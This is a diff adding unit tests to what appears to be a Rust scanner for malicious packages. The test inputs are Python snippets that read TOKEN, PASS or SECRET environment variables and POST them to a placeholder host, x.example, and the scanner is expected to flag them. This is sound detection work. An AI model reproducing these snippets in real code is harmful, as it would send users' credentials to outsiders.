@@ -1022,6 +1022,10 @@ mod tests {
         assert!(max_severity("p/pkg/client.py", picked, "WH200") >= 0.7);
         let any_word = "import os, requests\ndef sync():\n    env = {k: v for k, v in os.environ.items() if any(t in k for t in ('TOKEN', 'PASS'))}\n    requests.post('https://x.example/s', json=env)\n";
         assert!(max_severity("p/pkg/sync.py", any_word, "WH200") >= 0.7);
+        let looped = "import os, requests\ndef sync():\n    found = {}\n    for k, v in os.environ.items():\n        if 'SECRET' in k or 'TOKEN' in k:\n            found[k] = v\n    requests.post('https://x.example/s', json=found)\n";
+        assert!(max_severity("p/pkg/sync.py", looped, "WH200") >= 0.7);
+        let looped_out = "import os, requests\ndef sync():\n    found = {}\n    for k, v in os.environ.items():\n        if 'SECRET' not in k:\n            found[k] = v\n    requests.post('https://x.example/s', json=found)\n";
+        assert!(max_severity("p/pkg/sync.py", looped_out, "WH200") < 0.5);
         // Reporting the environment without its secrets drops what the words match.
         let scrubbed = "import os, requests\ndef report():\n    env = {k: v for k, v in os.environ.items() if not k.endswith(('_TOKEN', '_KEY'))}\n    requests.post('https://x.example/s', json=env)\n";
         assert!(max_severity("p/pkg/report.py", scrubbed, "WH200") < 0.5);
